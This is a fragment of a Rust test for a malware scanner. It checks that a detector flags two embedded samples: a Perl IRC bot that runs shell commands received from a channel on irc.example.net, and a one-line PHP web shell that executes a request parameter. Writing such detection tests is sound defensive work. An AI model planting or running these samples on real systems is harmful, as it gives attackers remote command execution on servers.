        let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s `$1`; } }\nmy $cmd = \"<?php echo 1; ?>\";\n";
        assert!(whys("magscan.php", bot).contains(&Why::NetworkBot), "{:?}", whys("magscan.php", bot));
        let cli = "#!/usr/bin/env php\n<?php system($_GET['c']);";
        assert!(whys("tool.php", cli).contains(&Why::ShellFromInput), "{:?}", whys("tool.php", cli));
    }
}
